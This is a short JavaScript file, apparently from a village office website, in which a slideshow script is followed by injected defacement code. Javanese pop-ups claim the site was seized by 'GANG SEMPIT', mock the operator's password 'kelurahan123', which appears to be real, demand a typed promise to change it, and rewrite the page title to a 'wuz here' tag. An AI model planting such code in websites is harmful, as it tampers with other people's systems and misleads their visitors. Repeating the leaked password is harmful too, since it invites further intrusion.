var i = 0;
function geser(){ var s=document.getElementsByClassName("slide"); for(var n=0;n<s.length;n++){s[n].style.display="none";} if(s.length){ s[i%s.length].style.display="block"; i++; } setTimeout(geser,4000); }
geser();
alert("Halo warga. Website kelurahan iki wis dijaluk paksa karo bocah-bocah GANG SEMPIT.");
alert("Operator: password 'kelurahan123' iku dudu password, iku undangan.");
var j = prompt("Tulis: SAYA BERJANJI GANTI PASSWORD");
document.title = "GANG SEMPIT wuz here -- " + (j || "ora gelem janji");
